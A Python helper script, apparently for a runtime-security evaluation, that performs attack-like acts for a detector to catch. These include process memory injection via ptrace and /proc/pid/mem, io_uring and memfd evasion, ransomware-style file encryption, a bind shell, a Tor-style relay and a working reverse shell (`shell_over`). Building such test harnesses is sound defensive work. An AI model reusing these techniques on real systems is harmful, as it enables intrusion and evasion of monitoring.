"""Acts of `cargo xtask eval runtime` that need system calls which no command of a shell makes.

Each touches only what it is given, and harms nothing: `act.py NAME ARGUMENT…`.
"""

import ctypes
import io
import mmap
import os
import pty
import socket
import struct
import subprocess
import sys
import tarfile
import time

C = ctypes.CDLL(None, use_errno=True)
C.mmap.restype = ctypes.c_void_p
C.syscall.restype = ctypes.c_long
# Numbers of system calls that are the same on x86_64 and aarch64, or by machine.
ARM = os.uname().machine == "aarch64"
USERFAULTFD = 282 if ARM else 323
BPF = 280 if ARM else 321
URING_SETUP, URING_ENTER = 425, 426
WAIT_S = 1.5
RELAY_PORT = 9001


def done(result, what):
    if result < 0:
        sys.exit(f"{what}: {os.strerror(ctypes.get_errno())}")
    return result


def writable(pid):
    """Address of memory of the process that may be written: its stack's lowest page."""
    with open(f"/proc/{pid}/maps", encoding="ascii") as maps:
        line = next(line for line in maps if "[stack]" in line)
    return int(line.split("-")[0], 16)


def ptrace(pid):
    pid = int(pid)
    address = writable(pid)
    C.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    done(C.ptrace(16, pid, None, None), "attach")
    os.waitpid(pid, 0x40000000)
    done(C.ptrace(5, pid, address, 7), "poke")
    done(C.ptrace(17, pid, None, None), "detach")


def vm_write(pid):
    data = ctypes.create_string_buffer(b"injected", 8)
    here = struct.pack("QQ", ctypes.addressof(data), 8)
    there = struct.pack("QQ", writable(pid), 8)
    done(C.process_vm_writev(int(pid), here, 1, there, 1, 0), "process_vm_writev")


def proc_mem(pid):
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(writable(pid))
        memory.write(b"injected")


def trace_me():
    C.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    done(C.ptrace(0, 0, None, None), "PTRACE_TRACEME")


def userfaultfd():
    done(C.syscall(USERFAULTFD, 0), "userfaultfd")


def bpf_program():
    # r0 = 0; exit
    code = ctypes.create_string_buffer(bytes([0xB7] + [0] * 7 + [0x95] + [0] * 7), 16)
    licence = ctypes.create_string_buffer(b"GPL")
    attributes = struct.pack("IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(licence))
    attributes += bytes(120 - len(attributes))
    done(C.syscall(BPF, 5, attributes, len(attributes)), "bpf")


def uring_open(path):
    """Opens a file by a request, without a system call that names it."""
    parameters = ctypes.create_string_buffer(120)
    ring = done(C.syscall(URING_SETUP, 4, parameters), "io_uring_setup")
    entries, = struct.unpack_from("I", parameters, 0)
    tail, = struct.unpack_from("I", parameters, 40 + 4)
    array, = struct.unpack_from("I", parameters, 40 + 24)
    rings = mmap.mmap(ring, 4096, mmap.MAP_SHARED | mmap.MAP_POPULATE, offset=0)
    requests = mmap.mmap(ring, entries * 64, mmap.MAP_SHARED | mmap.MAP_POPULATE, offset=0x10000000)
    name = ctypes.create_string_buffer(path.encode())
    # opcode OPENAT, the working directory, the name, to be read.
    requests[0:64] = struct.pack("BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, 0) + bytes(32)
    struct.pack_into("I", rings, array, 0)
    struct.pack_into("I", rings, tail, 1)
    done(C.syscall(URING_ENTER, ring, 1, 1, 1, None, 0), "io_uring_enter")
    time.sleep(WAIT_S)


def memory_file(program, *arguments):
    memory = os.memfd_create("payload", os.MFD_CLOEXEC)
    with open(program, "rb") as source:
        os.write(memory, source.read())
    os.execve(memory, [program, *arguments], {})


def fill(folder, count):
    os.makedirs(folder, exist_ok=True)
    for number in range(int(count)):
        with open(f"{folder}/{number}.txt", "w", encoding="ascii") as file:
            file.write("plain\n")


def archive(path, count):
    with tarfile.open(path, "w") as archive:
        for number in range(int(count)):
            entry = tarfile.TarInfo(f"{number}.txt")
            entry.size = 6
            archive.addfile(entry, io.BytesIO(b"plain\n"))


def encrypt(folder):
    """Rewrites and renames scratch files, as ransomware does."""
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        with open(path, "r+b", buffering=0) as file:
            text = file.read()
            file.seek(0)
            file.write(bytes(byte ^ 0x55 for byte in text))
        os.rename(path, path + ".locked")
    time.sleep(WAIT_S)


def listening(port):
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.settimeout(10)
    server.bind(("127.0.0.1", int(port)))
    server.listen()
    return server


def poke(port, text="run"):
    """Visits a server; it may take a while to listen."""
    for _ in range(50):
        try:
            with socket.create_connection(("127.0.0.1", int(port)), 1) as stream:
                stream.sendall(text.encode())
                stream.settimeout(5)
                while stream.recv(4096):
                    pass
            return
        except ConnectionRefusedError:
            time.sleep(0.1)
    sys.exit("nobody listens")


def serve(port, command):
    """A server that runs a command for its visitor."""
    with listening(port) as server:
        stream, _ = server.accept()
        with stream:
            stream.recv(100)
            stream.sendall(subprocess.run(command, shell=True, capture_output=True, check=False).stdout)


def serve_shell(port):
    """A server that gives its visitor a shell on a terminal."""
    with listening(port) as server:
        stream, _ = server.accept()
        pid, terminal = pty.fork()
        if pid == 0:
            os.execv("/bin/bash", ["bash", "--norc", "-i"])
        time.sleep(0.3)
        os.write(terminal, b"exit\n")
        stream.close()
        end = time.monotonic() + 3
        while time.monotonic() < end and os.waitpid(pid, os.WNOHANG) == (0, 0):
            time.sleep(0.1)


def tor_node():
    """Two nodes of the Tor network: who connects to the one is visited by the other."""
    with socket.create_server(("203.0.113.70", RELAY_PORT)) as server:
        while True:
            stream, peer = server.accept()
            with stream, socket.socket() as visitor:
                visitor.bind(("203.0.113.75", 0))
                visitor.settimeout(5)
                try:
                    visitor.connect((peer[0], RELAY_PORT))
                    visitor.sendall(b"x")
                    visitor.recv(1)
                except OSError as error:
                    print(f"no relay: {error}", file=sys.stderr)


def relay():
    """Connects to a node and takes a connection of another one."""
    with socket.create_server(("0.0.0.0", RELAY_PORT)) as server:
        server.settimeout(10)
        with socket.create_connection(("203.0.113.70", RELAY_PORT), 5):
            stream, _ = server.accept()
            stream.sendall(stream.recv(1))
            stream.close()


def runtime_socket(path):
    """Stands in for a container runtime, and is asked."""
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen()
    subprocess.run([sys.executable, __file__, "ask_runtime", path], check=True)
    server.close()
    os.unlink(path)


def ask_runtime(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)


def shell_over(host, port):
    stream = socket.create_connection((host, int(port)))
    for descriptor in (0, 1, 2):
        os.dup2(stream.fileno(), descriptor)
    os.execv("/bin/sh", ["sh", "-i"])


def session(script):
    """What somebody types who logged in: a shell on a terminal with a log-in's user."""
    try:
        with open("/proc/self/loginuid", "w", encoding="ascii") as user:
            user.write("1000")
    except OSError as error:
        print(f"no log-in's user: {error}", file=sys.stderr)
    pid, terminal = pty.fork()
    if pid == 0:
        os.execv("/bin/bash", ["-bash", "--norc"])
    with open(script, encoding="utf-8") as lines:
        for line in lines:
            time.sleep(0.15)
            os.write(terminal, line.encode())
    os.write(terminal, b"exit\n")
    try:
        while os.read(terminal, 4096):
            pass
    except OSError:
        pass
    os.waitpid(pid, 0)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
